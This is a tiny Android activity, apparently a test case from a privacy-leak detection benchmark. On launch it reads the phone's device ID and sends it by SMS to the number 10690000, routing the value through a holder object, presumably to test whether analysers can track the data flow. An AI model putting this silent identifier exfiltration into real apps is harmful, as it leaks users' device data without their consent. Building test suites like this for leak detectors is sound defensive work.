package cn.privlens.suite.filled_holder_sent;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Holder { String value; }
    private boolean fill(Holder holder) {
        holder.value = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        return true;
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Holder holder = new Holder();
        if (!fill(holder)) {
            return;
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, holder.value, null, null);
    }
}
